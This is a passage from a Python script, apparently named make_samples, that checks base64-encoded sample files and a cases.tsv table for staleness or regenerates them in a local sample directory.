                 if f.endswith(".b64") and os.path.join(SAMPLE_DIR, f) not in files]
    if check:
        bad = list(stale)
        for path, text in sorted(files.items()):
            try:
                with open(path, encoding="ascii", newline="") as f:
                    if f.read() != text:
                        bad.append(path)
            except FileNotFoundError:
                bad.append(path)
        for p in bad:
            print("out of date:", os.path.relpath(p, HERE))
        print("make_samples: %d files checked, %d out of date" % (len(files), len(bad)))
        return 1 if bad else 0
    os.makedirs(SAMPLE_DIR, exist_ok=True)
    for p in stale:
        os.remove(p)
    for path, text in files.items():
        with open(path, "w", encoding="ascii", newline="") as f:
            f.write(text)
    print("make_samples: wrote %d samples and cases.tsv (%d rows)"
          % (len(SAMPLES), cases_text().count("\n") - 1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
